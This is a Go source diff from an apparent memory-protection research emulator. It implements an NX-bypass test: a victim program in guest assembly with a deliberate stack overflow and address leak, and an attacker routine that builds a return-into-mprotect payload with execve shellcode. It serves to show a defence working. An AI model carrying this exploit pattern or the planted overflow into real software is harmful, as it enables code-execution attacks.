@@ -1,0 +1,129 @@
+package attacks
+
+import (
+	"splitmem"
+	"splitmem/internal/guest"
+	"splitmem/internal/mem"
+)
+
+// The NX-bypass attack (§2, [4] / Skape & Skywing): the victim binary
+// contains a make_executable() helper (standing in for libc's mprotect
+// wrapper). The attacker overflows a stack buffer with a crafted frame that
+// returns INTO make_executable with arguments that re-protect the injected
+// buffer as executable, and a second return address pointing at the
+// injected code. Hardware NX is defeated; split memory is not, because
+// there is no operation that moves data-twin bytes into a code twin.
+
+const nxBypassSrc = `
+_start:
+    sub esp, 256            ; victim working area keeps the frame simple
+    call vuln
+    mov eax, survived
+    push eax
+    call print
+    add esp, 4
+    mov eax, 0
+    push eax
+    call exit
+
+; make_executable(addr, len): the in-binary re-protection gadget
+make_executable:
+    push ebp
+    mov ebp, esp
+    push ebx
+    load ebx, [ebp+8]       ; addr
+    load ecx, [ebp+12]      ; len
+    mov edx, 7              ; PROT_READ|WRITE|EXEC
+    mov eax, SYS_MPROTECT
+    int 0x80
+    pop ebx
+    mov esp, ebp
+    pop ebp
+    ret
+
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 64
+    ; leak the buffer address: "BUF xxxxxxxx\n"
+    lea eax, [ebp-64]
+    push eax
+    mov eax, leakbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, leakpfx
+    push eax
+    call print
+    add esp, 4
+    mov eax, leakbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, newline
+    push eax
+    call print
+    add esp, 4
+    ; BUG: 512 bytes into a 64-byte buffer
+    mov eax, 512
+    push eax
+    lea eax, [ebp-64]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    mov esp, ebp
+    pop ebp
+    ret
+
+.data
+leakpfx:  .asciz "BUF "
+newline:  .asciz "\n"
+survived: .asciz "SURVIVED\n"
+leakbuf:  .space 12
+`
+
+// RunNXBypass runs the re-protection attack under cfg and returns the
+// outcome.
+func RunNXBypass(cfg splitmem.Config) (Result, error) {
+	t, err := NewTarget(cfg, nxBypassSrc, "nxbypass")
+	if err != nil {
+		return Result{}, err
+	}
+	prog, err := splitmem.Assemble(guest.WithCRT(nxBypassSrc))
+	if err != nil {
+		return Result{}, err
+	}
+	makeExec, ok := prog.Symbol("make_executable")
+	if !ok {
+		return Result{}, err
+	}
+	out, ok := t.WaitOutput("BUF ")
+	if !ok {
+		return Result{Notes: "no leak: " + out}, nil
+	}
+	buf, err := parseLeak(out, "BUF ")
+	if err != nil {
+		return Result{}, err
+	}
+	page := buf &^ uint32(mem.PageMask)
+
+	// Crafted stack, bottom-up past the 64-byte buffer:
+	//   [shellcode........pad to 64]
+	//   [saved ebp  = junk]
+	//   [ret        = make_executable]     <- vuln returns here
+	//   [ret2       = buf (the shellcode)] <- make_executable returns here
+	//   [arg addr   = page containing buf]
+	//   [arg len    = one page]
+	payload := pad(ExecveShellcode(buf), 64, 0x90)
+	payload = append(payload, le32(0x42424242)...)
+	payload = append(payload, le32(makeExec)...)
+	payload = append(payload, le32(buf)...)
+	payload = append(payload, le32(page)...)
+	payload = append(payload, le32(mem.PageSize)...)
+	t.Send(payload)
+	t.Close()
+	t.Run()
+	return t.Result(), nil
+}
